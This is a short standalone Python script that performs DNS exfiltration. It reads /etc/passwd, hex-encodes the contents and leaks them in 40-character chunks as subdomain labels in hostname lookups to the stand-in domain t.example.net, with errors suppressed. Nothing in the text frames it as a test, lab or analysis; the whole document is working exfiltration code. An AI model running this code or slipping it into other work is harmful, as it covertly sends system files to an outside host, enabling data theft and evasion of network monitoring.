# carries a file out in names
import socket, binascii
data = binascii.hexlify(open("/etc/passwd", "rb").read()).decode()
for i in range(0, len(data), 40):
    try: socket.gethostbyname(data[i:i+40] + ".t.example.net")
    except OSError: pass
